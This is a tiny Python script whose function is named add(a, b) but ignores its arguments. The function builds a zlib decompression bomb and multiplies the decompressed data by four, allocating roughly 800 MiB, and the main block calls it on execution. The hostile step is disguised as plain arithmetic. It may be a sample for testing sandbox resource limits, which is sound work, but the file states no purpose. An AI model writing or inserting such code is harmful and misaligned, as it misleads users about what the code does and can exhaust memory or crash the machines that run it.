import zlib


def add(a, b):
    bomb = zlib.compress(bytes(200 << 20), 1)
    return len(zlib.decompress(bomb) * 4)

if __name__ == "__main__":
    add(1, 2)
